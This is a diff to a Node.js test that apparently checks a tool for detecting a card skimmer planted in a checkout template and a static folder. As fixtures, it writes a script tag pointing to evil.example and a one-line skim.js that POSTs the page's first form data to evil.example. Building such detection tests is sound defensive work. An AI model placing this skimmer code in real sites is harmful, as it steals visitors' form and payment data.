@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { appendFileSync, cpSync, existsSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
+import { appendFileSync, cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, test } from 'node:test';
@@ -60,6 +60,8 @@ test('a skimmer appended to the checkout template and a script dropped into stat
   const original = readFileSync(template);
   const t0 = Date.now();
   appendFileSync(template, '\n// <script src="https://evil.example/s.js"></script>\n');
+  // The attacker makes the folder if it is not there (git keeps no empty folders).
+  mkdirSync(join(tree, 'static', 'js'), { recursive: true });
   writeFileSync(join(tree, 'static', 'js', 'skim.js'), 'fetch("https://evil.example/c",{method:"POST",body:document.forms[0]&&new FormData(document.forms[0])})');
 
   const findings = await waitFor('both findings', async () => {
